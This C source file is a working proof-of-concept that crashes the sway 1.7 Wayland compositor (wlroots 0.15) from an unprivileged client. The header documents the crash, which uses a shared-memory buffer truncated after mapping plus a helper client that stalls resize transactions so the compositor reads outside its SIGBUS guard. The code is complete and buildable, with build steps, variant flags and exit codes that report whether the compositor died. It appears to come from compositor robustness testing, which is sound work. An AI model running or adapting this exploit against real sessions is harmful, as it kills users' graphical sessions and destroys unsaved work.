/*
 * shrink-then-disconnect: kills sway 1.7 (wlroots 0.15, pixman renderer)
 * with SIGBUS, as an unprivileged client.
 *
 * Two connections, as misbehave's shrink-then-disconnect scenario with its
 * bystander (internal/misbehave: StartBystander, shrinkThenDisconnect):
 *
 * - the bystander (a thread with its own connection) maps a 64x64 window,
 *   acks only its first configure and then commits its buffer on every
 *   frame callback; it never acks the resize that tiling sends it, so
 *   sway 1.7's configure transactions wait for their 200 ms timeout;
 * - the offender creates a 1 MiB pool on an unsealed memfd, a 512x512
 *   ARGB8888 buffer on it, roundtrips (the compositor has mapped the
 *   file), truncates the file to 42 bytes, maps a toplevel and commits the
 *   buffer, then for at least 300 ms and three frame callbacks acks every
 *   configure and re-commits the buffer on every configure and frame
 *   callback, roundtrips and disconnects.
 *
 * sway then draws the departed client's buffer from the saved pool
 * pointer, outside libwayland's SIGBUS guard (wlroots 0.15
 * types/wlr_buffer.c, shm_client_buffer_begin_data_ptr_access), and dies.
 *
 * --destroy-buffer: instead of disconnecting, the offender destroys its
 * wl_buffer and pool (the protocol allows destroying a committed
 * wl_buffer) and stays connected for another second: sway takes the same
 * unguarded path with the client still there.
 * --no-bystander: the offender alone (sway then reads the buffer while the
 * wl_buffer exists, under libwayland's guard, and posts invalid_fd).
 *
 * Build: cc -o shrink-then-disconnect shrink-then-disconnect.c \
 *            xdg-shell-protocol.c -lpthread \
 *            $(pkg-config --cflags --libs wayland-client)
 * (xdg-shell-protocol.c and xdg-shell-client-protocol.h from
 *  wayland-scanner private-code / client-header of xdg-shell.xml)
 *
 * Exit status: 0 if the compositor still accepts a new client half a
 * second after the offender left, 1 if it does not (it died), 2 on local
 * errors.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>
#include <wayland-client.h>
#include "xdg-shell-client-protocol.h"

/* One connection and its globals. */
struct conn {
	struct wl_display *d;
	struct wl_compositor *compositor;
	uint32_t compositor_version;
	struct wl_shm *shm;
	struct xdg_wm_base *wm_base;
};

/* A toplevel: the last configure serial received and the last acked. */
struct window {
	struct wl_surface *surface;
	struct xdg_surface *xs;
	struct xdg_toplevel *top;
	uint32_t serial, acked;
	bool configured;
};

static double now_s(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

static void global(void *data, struct wl_registry *r, uint32_t name,
		   const char *iface, uint32_t version)
{
	struct conn *c = data;
	if (strcmp(iface, "wl_compositor") == 0 && !c->compositor) {
		c->compositor_version = version < 4 ? version : 4;
		c->compositor = wl_registry_bind(r, name, &wl_compositor_interface,
						 c->compositor_version);
	} else if (strcmp(iface, "wl_shm") == 0 && !c->shm) {
		c->shm = wl_registry_bind(r, name, &wl_shm_interface, 1);
	} else if (strcmp(iface, "xdg_wm_base") == 0 && !c->wm_base) {
		c->wm_base = wl_registry_bind(r, name, &xdg_wm_base_interface, 1);
	}
}
static void global_remove(void *data, struct wl_registry *r, uint32_t name) {}
static const struct wl_registry_listener registry_listener = { global, global_remove };

static void ping(void *data, struct xdg_wm_base *b, uint32_t serial)
{
	xdg_wm_base_pong(b, serial);
}
static const struct xdg_wm_base_listener wm_base_listener = { ping };

/* Configures are recorded, not acked: the caller decides (the bystander
 * acks only the first one). */
static void xdg_configure(void *data, struct xdg_surface *s, uint32_t serial)
{
	struct window *w = data;
	w->serial = serial;
	w->configured = true;
}
static const struct xdg_surface_listener xdg_surface_listener = { xdg_configure };

static void top_configure(void *data, struct xdg_toplevel *t, int32_t w, int32_t h,
			  struct wl_array *states) {}
static void top_close(void *data, struct xdg_toplevel *t) {}
static const struct xdg_toplevel_listener toplevel_listener = { top_configure, top_close };

static void frame_done(void *data, struct wl_callback *cb, uint32_t t)
{
	*(bool *)data = true;
	wl_callback_destroy(cb);
}
static const struct wl_callback_listener frame_listener = { frame_done };

static int conn_open(struct conn *c)
{
	memset(c, 0, sizeof(*c));
	c->d = wl_display_connect(NULL);
	if (!c->d)
		return -1;
	struct wl_registry *reg = wl_display_get_registry(c->d);
	wl_registry_add_listener(reg, &registry_listener, c);
	if (wl_display_roundtrip(c->d) < 0)
		return -1;
	if (!c->compositor || !c->shm || !c->wm_base) {
		fprintf(stderr, "shrink-then-disconnect: wl_compositor, wl_shm or xdg_wm_base missing\n");
		exit(2);
	}
	xdg_wm_base_add_listener(c->wm_base, &wm_base_listener, NULL);
	return 0;
}

/* Dispatch c's events for at most ms milliseconds; -1 when the
 * connection broke. */
static int dispatch_for(struct conn *c, int ms)
{
	if (wl_display_flush(c->d) < 0 && errno != EAGAIN)
		return -1;
	if (wl_display_dispatch_pending(c->d) < 0)
		return -1;
	struct pollfd p = { wl_display_get_fd(c->d), POLLIN, 0 };
	if (poll(&p, 1, ms) > 0)
		return wl_display_dispatch(c->d) < 0 ? -1 : 0;
	return 0;
}

/* map_window: a toplevel committed without a buffer, its first configure
 * acked. */
static int map_window(struct conn *c, struct window *w, const char *title)
{
	memset(w, 0, sizeof(*w));
	w->surface = wl_compositor_create_surface(c->compositor);
	w->xs = xdg_wm_base_get_xdg_surface(c->wm_base, w->surface);
	xdg_surface_add_listener(w->xs, &xdg_surface_listener, w);
	w->top = xdg_surface_get_toplevel(w->xs);
	xdg_toplevel_add_listener(w->top, &toplevel_listener, NULL);
	xdg_toplevel_set_title(w->top, title);
	wl_surface_commit(w->surface);
	while (!w->configured)
		if (wl_display_dispatch(c->d) < 0)
			return -1;
	w->acked = w->serial;
	xdg_surface_ack_configure(w->xs, w->acked);
	return 0;
}

/* present: attach, damage all, ask for a frame callback, commit. */
static void present(struct conn *c, struct window *w, struct wl_buffer *b,
		    int32_t width, int32_t height, bool *done)
{
	if (b) {
		wl_surface_attach(w->surface, b, 0, 0);
		if (c->compositor_version >= 4)
			wl_surface_damage_buffer(w->surface, 0, 0, width, height);
		else
			wl_surface_damage(w->surface, 0, 0, width, height);
	}
	*done = false;
	wl_callback_add_listener(wl_surface_frame(w->surface), &frame_listener, done);
	wl_surface_commit(w->surface);
	wl_display_flush(c->d);
}

static int memfd(const char *name, off_t size)
{
	int fd = memfd_create(name, MFD_CLOEXEC);
	if (fd < 0 || ftruncate(fd, size) < 0) {
		perror("shrink-then-disconnect: memfd");
		exit(2);
	}
	return fd;
}

/* The bystander: a well-behaved-looking window that never acks a resize. */
enum { BY = 64 };
static atomic_bool by_stop;
static pthread_mutex_t by_mu = PTHREAD_MUTEX_INITIALIZER;
static pthread_cond_t by_cond = PTHREAD_COND_INITIALIZER;
static int by_state; /* 0 starting, 1 running, -1 failed */
static int by_frames;

static void by_set(int s)
{
	pthread_mutex_lock(&by_mu);
	by_state = s;
	pthread_cond_broadcast(&by_cond);
	pthread_mutex_unlock(&by_mu);
}

static void *bystander(void *arg)
{
	struct conn c;
	struct window w;
	bool done;
	if (conn_open(&c) < 0) {
		by_set(-1);
		return NULL;
	}
	int fd = memfd("bystander", BY * 4 * BY);
	uint32_t *px = mmap(NULL, BY * 4 * BY, PROT_WRITE, MAP_SHARED, fd, 0);
	if (px == MAP_FAILED) {
		perror("shrink-then-disconnect: mmap");
		exit(2);
	}
	for (int i = 0; i < BY * BY; i++)
		px[i] = 0xff3070b0;
	munmap(px, BY * 4 * BY);
	struct wl_shm_pool *pool = wl_shm_create_pool(c.shm, fd, BY * 4 * BY);
	close(fd);
	struct wl_buffer *buf = wl_shm_pool_create_buffer(pool, 0, BY, BY, BY * 4,
							  WL_SHM_FORMAT_XRGB8888);
	wl_shm_pool_destroy(pool);
	if (map_window(&c, &w, "misbehave bystander") < 0) {
		by_set(-1);
		return NULL;
	}
	present(&c, &w, buf, BY, BY, &done);
	while (!done)
		if (wl_display_dispatch(c.d) < 0) {
			by_set(-1);
			return NULL;
		}
	by_set(1);
	present(&c, &w, buf, BY, BY, &done);
	while (!atomic_load(&by_stop)) {
		if (dispatch_for(&c, 50) < 0)
			break;
		if (done) {
			by_frames++;
			present(&c, &w, buf, BY, BY, &done);
		}
	}
	wl_display_disconnect(c.d);
	return NULL;
}

/* alive: a new connection gets an answer to a roundtrip. */
static bool alive(void)
{
	struct wl_display *d = wl_display_connect(NULL);
	if (!d)
		return false;
	bool ok = wl_display_roundtrip(d) >= 0;
	wl_display_disconnect(d);
	return ok;
}

enum { W = 512, H = 512, STRIDE = W * 4, SIZE = STRIDE * H };

int main(int argc, char **argv)
{
	bool with_bystander = true, destroy_buffer = false;
	for (int i = 1; i < argc; i++) {
		if (strcmp(argv[i], "--no-bystander") == 0) {
			with_bystander = false;
		} else if (strcmp(argv[i], "--destroy-buffer") == 0) {
			destroy_buffer = true;
		} else {
			fprintf(stderr, "usage: shrink-then-disconnect [--no-bystander] [--destroy-buffer]\n");
			return 2;
		}
	}
	pthread_t by;

	if (!alive()) {
		fprintf(stderr, "shrink-then-disconnect: cannot connect: %s\n", strerror(errno));
		return 2;
	}
	if (with_bystander) {
		pthread_create(&by, NULL, bystander, NULL);
		pthread_mutex_lock(&by_mu);
		while (by_state == 0)
			pthread_cond_wait(&by_cond, &by_mu);
		pthread_mutex_unlock(&by_mu);
		if (by_state < 0) {
			fprintf(stderr, "shrink-then-disconnect: the bystander could not map its window\n");
			return 2;
		}
	}

	struct conn c;
	struct window w;
	bool done;
	if (conn_open(&c) < 0) {
		fprintf(stderr, "shrink-then-disconnect: cannot connect: %s\n", strerror(errno));
		return 2;
	}
	int fd = memfd("shrink-then-disconnect", SIZE);
	struct wl_shm_pool *pool = wl_shm_create_pool(c.shm, fd, SIZE);
	struct wl_buffer *buf = wl_shm_pool_create_buffer(pool, 0, W, H, STRIDE,
							  WL_SHM_FORMAT_ARGB8888);
	wl_display_roundtrip(c.d); /* the compositor has mapped the file */
	if (ftruncate(fd, 42) < 0) {
		perror("shrink-then-disconnect: ftruncate");
		return 2;
	}
	if (map_window(&c, &w, "misbehave shrink") < 0)
		goto gone;
	present(&c, &w, buf, W, H, &done);

	/* settle: ack every configure, re-commit on every configure and frame
	 * callback, for three frames and at least 300 ms (at most 3 s). */
	double start = now_s();
	int frames = 0;
	while (now_s() < start + 3 && (frames < 3 || now_s() < start + 0.3)) {
		if (dispatch_for(&c, 20) < 0)
			goto gone;
		bool again = false;
		if (w.serial != w.acked) {
			w.acked = w.serial;
			xdg_surface_ack_configure(w.xs, w.acked);
			again = true;
		}
		if (done) {
			frames++;
			again = true;
		}
		if (again)
			present(&c, &w, buf, W, H, &done);
	}
	if (wl_display_roundtrip(c.d) < 0)
		goto gone;
	printf("shrink-then-disconnect: %d frames in %.0f ms, no error; %s\n",
	       frames, (now_s() - start) * 1000,
	       destroy_buffer ? "destroying the wl_buffer" : "disconnecting");
	if (destroy_buffer) {
		wl_buffer_destroy(buf);
		wl_shm_pool_destroy(pool);
		for (double t = now_s(); now_s() < t + 1;)
			if (dispatch_for(&c, 20) < 0)
				goto gone;
		if (wl_display_roundtrip(c.d) < 0)
			goto gone;
		printf("shrink-then-disconnect: still connected a second later; disconnecting\n");
	}
	close(fd);
	wl_display_disconnect(c.d);

	usleep(500 * 1000); /* misbehave's grace before the liveness check */
	bool ok = alive();
	if (with_bystander) {
		atomic_store(&by_stop, true);
		pthread_join(by, NULL);
	}
	if (ok) {
		printf("shrink-then-disconnect: the compositor survived (bystander: %d frames)\n",
		       by_frames);
		return 0;
	}
	printf("shrink-then-disconnect: a new connection fails after the offender left: "
	       "the compositor died\n");
	return 1;

gone:;
	int err = wl_display_get_error(c.d);
	if (err == EPROTO) {
		const struct wl_interface *iface;
		uint32_t id, code = wl_display_get_protocol_error(c.d, &iface, &id);
		printf("shrink-then-disconnect: protocol error %u on %s@%u before leaving "
		       "(the compositor read the buffer while the client was connected)\n",
		       code, iface ? iface->name : "?", id);
		wl_display_disconnect(c.d);
		usleep(500 * 1000);
		if (alive())
			return 0;
	} else {
		printf("shrink-then-disconnect: the connection broke (%s)\n", strerror(err));
	}
	printf("shrink-then-disconnect: the compositor died\n");
	return 1;
}
